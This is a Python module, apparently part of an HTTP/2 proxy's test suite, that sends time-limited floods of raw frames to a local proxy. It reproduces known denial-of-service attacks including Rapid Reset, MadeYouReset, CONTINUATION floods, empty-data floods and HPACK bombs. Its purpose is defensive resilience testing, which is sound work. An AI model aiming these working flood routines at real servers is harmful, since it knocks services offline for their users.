"""Frames that are right one by one, and too many. Each flood is bounded in number and time."""

import struct
import time

from raw import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Raw, frame,
                 request)

SECONDS = 4


class Floods:
    def __init__(self, proxy, backend):
        self.proxy, self.backend = proxy, backend

    def heads(self, raw, path, more=b"", method="GET", end_stream=True):
        """A request on each next stream, and what follows it."""
        block = raw.block(request(path, method))
        flags = END_HEADERS | (END_STREAM if end_stream else 0)

        def one(number):
            stream = 2 * number + 1
            return frame(HEADERS, flags, stream, block) + (more(stream) if callable(more) else more)

        return one

    def run(self, raw, chunk, times, reads=True):
        sent, end = raw.flood(chunk, times, SECONDS, reads)
        return sent, f"{sent} sent, {end}, {raw.reason()}" if reads else f"{sent} sent, {end}"

    def rapid_reset(self):
        """CVE-2023-44487: requests that are taken back at once."""
        with Raw(self.proxy.port) as raw:
            reset = lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            return self.run(raw, self.heads(raw, "/slow", reset), 20000)

    def made_resets(self):
        """CVE-2025-8671: requests that the server itself is made to take back."""
        with Raw(self.proxy.port) as raw:
            update = lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
            return self.run(raw, self.heads(raw, "/slow", update), 20000)

    def made_resets_by_windows(self):
        with Raw(self.proxy.port) as raw:
            update = lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))
            return self.run(raw, self.heads(raw, "/slow", update), 20000)

    def more_streams_than_allowed(self):
        with Raw(self.proxy.port) as raw:
            return self.run(raw, self.heads(raw, "/slow"), 20000)

    def refused_requests(self):
        """Each head is malformed, which costs the server a reset."""
        with Raw(self.proxy.port) as raw:
            block = raw.block(request("/bad", fields=[("connection", "close")]))
            return self.run(raw, lambda number: frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, block), 50000)

    def continuations(self):
        """CVE-2024-27316 and its like: a head that never ends."""
        with Raw(self.proxy.port) as raw:
            raw.send(frame(HEADERS, END_STREAM, 1, raw.block(request("/bad"))))
            block = raw.block([(f"x-{number}", "y" * 100) for number in range(100)])
            return self.run(raw, frame(CONTINUATION, 0, 1, block), 20000)

    def empty_continuations(self):
        with Raw(self.proxy.port) as raw:
            raw.send(frame(HEADERS, END_STREAM, 1, raw.block(request("/bad"))))
            return self.run(raw, frame(CONTINUATION, 0, 1) * 100, 10000)

    def empty_data(self):
        """CVE-2019-9518, with a backend that takes what comes."""
        with Raw(self.proxy.port) as raw:
            raw.send(raw.headers(1, request("/flood", "POST"), end_stream=False))
            return self.run(raw, frame(DATA, 0, 1) * 1000, 1000)

    def empty_data_that_nobody_reads(self):
        with Raw(self.proxy.port) as raw:
            raw.send(raw.headers(1, request("/stall", "POST"), end_stream=False) + frame(DATA, 0, 1, b"x" * 16000) * 4)
            return self.run(raw, frame(DATA, 0, 1) * 1000, 2000)

    def data_of_one_byte_that_nobody_reads(self):
        with Raw(self.proxy.port, struct.pack(">HI", 4, 0x7FFFFFFF)) as raw:
            for stream in range(1, 33, 2):
                raw.send(raw.headers(stream, request("/stall", "POST"), end_stream=False))
            chunks = lambda number: b"".join(frame(DATA, 0, stream, b"x") for stream in range(1, 33, 2)) * 10
            return self.run(raw, chunks, 6500)

    def settings(self):
        with Raw(self.proxy.port) as raw:
            return self.run(raw, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100, 5000)

    def settings_whose_answers_nobody_reads(self):
        with Raw(self.proxy.port) as raw:
            return self.run(raw, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100, 10000, reads=False)

    def pings(self):
        with Raw(self.proxy.port) as raw:
            return self.run(raw, frame(PING, 0, 0, b"12345678") * 100, 5000)

    def pings_whose_answers_nobody_reads(self):
        with Raw(self.proxy.port) as raw:
            return self.run(raw, frame(PING, 0, 0, b"12345678") * 100, 10000, reads=False)

    def acknowledgements(self):
        with Raw(self.proxy.port) as raw:
            return self.run(raw, frame(SETTINGS, ACK) * 100, 5000)

    def priorities(self):
        with Raw(self.proxy.port) as raw:
            return self.run(raw, lambda number: frame(PRIORITY, 0, 2 * (number % 100000) + 1, struct.pack(">IB", 0, 1)) * 100, 5000)

    def window_updates(self):
        with Raw(self.proxy.port) as raw:
            raw.send(raw.headers(1, request("/flood", "POST"), end_stream=False))
            return self.run(raw, (frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))) * 100, 5000)

    def unknown_frames(self):
        with Raw(self.proxy.port) as raw:
            return self.run(raw, frame(0xFA, 0, 0, b"x" * 1000) * 20, 5000)

    def resets_of_closed_streams(self):
        with Raw(self.proxy.port) as raw:
            raw.send(raw.headers(1, request("/flood")))
            raw.outcome()
            return self.run(raw, frame(RST_STREAM, 0, 1, struct.pack(">I", 8)) * 100, 5000)

    def hpack_bomb(self):
        """CVE-2016-6581: 4 KB in the table, named by a byte each."""
        with Raw(self.proxy.port) as raw:
            first = raw.block(request("/bad")) + b"\x40\x01a\x7f" + b"\x81\x1e" + b"y" * 4000
            raw.send(frame(HEADERS, END_STREAM, 1, first))
            return self.run(raw, frame(CONTINUATION, 0, 1, b"\xbe" * 16000), 2000)

    def hpack_bombs_in_whole_heads(self):
        with Raw(self.proxy.port) as raw:
            first = raw.block(request("/bad")) + b"\x40\x01a\x7f" + b"\x81\x1e" + b"y" * 4000
            block = raw.block(request("/bad")) + b"\xbe" * 16000
            chunk = lambda number: frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, block if number else first)
            return self.run(raw, chunk, 2000)

    def answers_that_nobody_reads(self):
        """A hundred answers of 5 MB with no window, on each of ten connections."""
        raws = [Raw(self.proxy.port, struct.pack(">HI", 4, 0)) for _ in range(10)]
        for raw in raws:
            one = self.heads(raw, "/big")
            raw.send(b"".join(one(number) for number in range(100)))
        for raw in raws:
            raw.outcome(199, 2)
        for raw in raws:
            raw.socket.close()
        return 1000, "1000 sent"

    def answers_into_a_full_socket(self):
        """The windows are wide open, but nobody reads the socket."""
        raws = [Raw(self.proxy.port, struct.pack(">HI", 4, 0x7FFFFFFF)) for _ in range(10)]
        for raw in raws:
            one = self.heads(raw, "/big")
            raw.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF0000)) + b"".join(one(number) for number in range(100)))
        time.sleep(2)
        for raw in raws:
            raw.socket.close()
        return 1000, "1000 sent"


ALL = [name for name, item in vars(Floods).items() if not name.startswith("_") and name not in ("heads", "run")]
